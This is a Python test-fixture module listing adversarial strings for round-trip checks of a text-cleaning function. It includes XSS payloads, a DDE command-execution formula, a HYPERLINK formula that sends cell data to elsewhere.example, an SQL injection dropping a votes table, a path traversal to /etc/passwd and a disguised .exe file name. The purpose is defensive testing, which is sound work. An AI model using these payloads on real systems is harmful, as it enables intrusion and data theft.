"""Texts that have broken other products, by name. Each must come back as the same text, everywhere."""

import re

from models.text import clean

STRINGS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)' autofocus onfocus='alert(2)",
    "entities": "&lt;b&gt; &amp; &#x3C; ]]> <!-- --> </style></title>",
    "template": "{{ 7*7 }} {% raw %} ${7*7} %(question)s %s {0}",
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://elsewhere.example/?"&A1;"klik")',
    "plus": "+31 70 123 45 67",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1+1)",
    "apostrophe": "'=1+1",
    "only looks like it": "'s avonds = later",
    "semicolons": "eerst;=1+1;@A1;'=2;-3",
    "lines": "eerst\n=1+1\n\n- punt\n'=2",
    "tabs": "\t=1+1\t-1",
    "carriage returns": "\r\n=1+1\r- punt",
    "link": "https://elsewhere.example/?a=1&b=2",
    "zeros": "007",
    "date": "1-2",
    "exponent": "1E5",
    "truth": "TRUE",
    "escape": "_x0041_ _x000D_ \\u0041 \\n",
    "quotes": "zei \"ja\", 'nee', „misschien”",
    "sheet": "[a]:*?/\\ 'b'",
    "sql": "'; DROP TABLE votes; --",
    "path": "../../etc/passwd%00.xlsx",
    "right to left": "factuur\u202egnp.exe\u202c שלום مرحبا",
    "isolates": "a\u2066b\u2067c",
    "NUL": "voor\x00na",
    "controls": "bel\x07 kleur\x1b[31m rand\x9f einde\ufffe",
    "surrogate": "half\ud83d paar",
    "line separators": "een\u2028twee\u2029drie\x0bvier\x85vijf",
    "family": "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 1️⃣",
    "combining": "Z̸̢̛͖a̷̧l̴͎g̶o e\u0301 \u1112\u1161\u11ab",
    "invisible": "a\u200bb\ufeffc\u00add\u2060",
    "long": "lang woord " * 9_100,
    "long word": "x" * 100_000,
}
OURS = re.compile("^'(?=[ ']*[=+\\-@＝＋－＠\t\r\n])|(?<=[;\r\n])'(?=[ ']*[=+\\-@＝＋－＠\t])")


def admitted(text: str, *, limit: int, lines: bool = False) -> str:
    """The text as it stands once it has passed the door, cut to what fits."""
    return clean(text[:limit], limit=limit, lines=lines)


def without_ours(cell: str) -> str:
    """A cell of a CSV file without the apostrophes that its `columns.csv` tells of."""
    return OURS.sub("", cell)
